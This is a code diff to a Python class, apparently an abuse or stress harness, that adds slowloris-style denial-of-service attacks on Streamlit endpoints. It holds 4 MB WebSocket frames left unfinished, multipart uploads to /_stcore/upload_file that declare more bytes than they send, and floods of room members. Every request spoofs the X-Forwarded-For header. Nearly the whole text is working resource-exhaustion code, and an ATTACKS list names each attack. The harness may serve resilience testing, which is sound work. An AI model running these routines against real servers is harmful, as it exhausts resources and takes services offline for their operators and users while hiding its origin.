@@ -52,6 +52,7 @@ class Stranger:
     def __init__(self, url: str, code: str, seconds: float) -> None:
         self.url, self.code, self.ends = url, code, time.monotonic() + seconds
         self.lines: list[ClientConnection] = []
+        self.sockets: list[socket.socket] = []
 
     @property
     def goes_on(self) -> bool:
@@ -87,6 +88,12 @@ class Stranger:
         except (OSError, InvalidHandshake):
             return 403
         self.lines.append(line)
+        return line
+
+    async def seat(self, code: str, secret: str | None = None) -> ClientConnection:
+        """As soon as there is one for this address."""
+        while isinstance(line := await self.come(code, secret), int):
+            await asyncio.sleep(0.2)
         return line
 
     async def many(self, once: Callable[[], Awaitable[bool]], at_once: int = 20) -> Count:
@@ -146,12 +153,10 @@ class Stranger:
     async def ask_for(self, messages: list[dict[str, Any]], name: str) -> Count:
         """In a room of its own, in which a hundred have answered, as often as it may."""
         room = await self.own_room()
-        leader = await self.come(room["code"], room["secret"])
-        assert isinstance(leader, ClientConnection)
+        leader = await self.seat(room["code"], room["secret"])
         await leader.send(json.dumps({"ask": QUESTION}))
         for _ in range(100):
-            member = await self.come(room["code"])
-            assert isinstance(member, ClientConnection)
+            member = await self.seat(room["code"])
             await member.send(json.dumps({"answer": {"id": "q", "guess": [0.123456789] * 1000}}))
         tried = through = 0
 
@@ -177,10 +182,8 @@ class Stranger:
 
         async def lead(room: dict[str, str]) -> None:
             nonlocal tried
-            line = await self.come(room["code"], room["secret"])
-            other = await self.come(room["code"], room["secret"])
-            if isinstance(line, int) or isinstance(other, int):
-                return
+            line = await self.seat(room["code"], room["secret"])
+            other = await self.seat(room["code"], room["secret"])
             other.transport.pause_reading()
             with suppress(ConnectionClosed):
                 while self.goes_on:
@@ -194,33 +197,61 @@ class Stranger:
     async def frames(self) -> Count:
         """As many as may be begun, of 4 MB each, less a byte, and connections that say nothing -> those left open."""
 
-        def begin(count: int) -> bool:
+        def begin() -> bool:
             with suppress(OSError):
-                line = socket.create_connection((urlsplit(self.url).hostname, urlsplit(self.url).port), timeout=30)
-                self.sockets.append(line)
-                head = f"GET /_stcore/stream HTTP/1.1\r\nHost: {urlsplit(self.url).netloc}\r\nOrigin: {self.url}\r\n"
-                head += f"X-Forwarded-For: {STRANGER}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
-                head += "Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
-                line.sendall(head.encode())
+                upgrade = "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+                line = self.request("GET /_stcore/stream", f"{upgrade}Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n")
                 line.recv(4096)
-                line.sendall(struct.pack("!BBQ4x", 0x82, 0xFF, 4_000_000) + bytes(count))
+                line.sendall(struct.pack("!BBQ4x", 0x82, 0xFF, 4_000_000) + bytes(3_999_000))
                 self.sockets.append(socket.create_connection((urlsplit(self.url).hostname, urlsplit(self.url).port)))
                 return True
             return False
 
-        self.sockets: list[socket.socket] = []
-
         async def once() -> bool:
-            return await asyncio.to_thread(begin, 3_999_000)
+            return await asyncio.to_thread(begin)
 
         tried, _begun = await self.many(once, at_once=4)
         return 2 * tried, sum(map(is_open, self.sockets))
 
+    async def uploads(self) -> Count:
+        """As many files as may be begun for a page of its own, 20 MB of each -> those that are still on their way."""
+        page = Visitor(self.url)
+        await page.__aenter__()
+        await page.open("heads", {})
+        token = page.cookies["_streamlit_xsrf"].value
+        rights = f"Cookie: {page.cookie}\r\nX-Xsrftoken: {token}\r\nContent-Length: 24000000\r\n"
+        rights += "Content-Type: multipart/form-data; boundary=b\r\n"
+        part = b'--b\r\nContent-Disposition: form-data; name="a"; filename="a"\r\n\r\n' + bytes(20_000_000)
+        begun = 0
+
+        def begin(name: int) -> bool:
+            with suppress(OSError):
+                self.request(f"PUT /_stcore/upload_file/{page.session}/{name}", rights).sendall(part)
+                return True
+            return False
+
+        async def once() -> bool:
+            nonlocal begun
+            begun += 1
+            return await asyncio.to_thread(begin, begun)
+
+        tried, _begun = await self.many(once, at_once=4)
+        return tried, sum(map(is_open, self.sockets))
+
+    def request(self, what: str, headers: str) -> socket.socket:
+        line = socket.create_connection((urlsplit(self.url).hostname, urlsplit(self.url).port), timeout=30)
+        self.sockets.append(line)
+        head = f"{what} HTTP/1.1\r\nHost: {urlsplit(self.url).netloc}\r\nOrigin: {self.url}\r\n"
+        line.sendall(f"{head}X-Forwarded-For: {STRANGER}\r\n{headers}\r\n".encode())
+        return line
+
 
 def is_open(line: socket.socket) -> bool:
+    """Neither closed nor answered."""
     line.setblocking(False)
     try:
-        return line.recv(4096) != b""
+        line.recv(4096)
+        return False
     except BlockingIOError:
         return True
     except OSError:
@@ -236,6 +267,7 @@ ATTACKS = {
     "exports": "answers exported, again and again",
     "deaf": "five who lead and do not read, 105 KB a message",
     "frames": "messages of 4 MB that do not end, and silent lines",
+    "uploads": "files of which 20 MB come, and no end",
 }
 
 
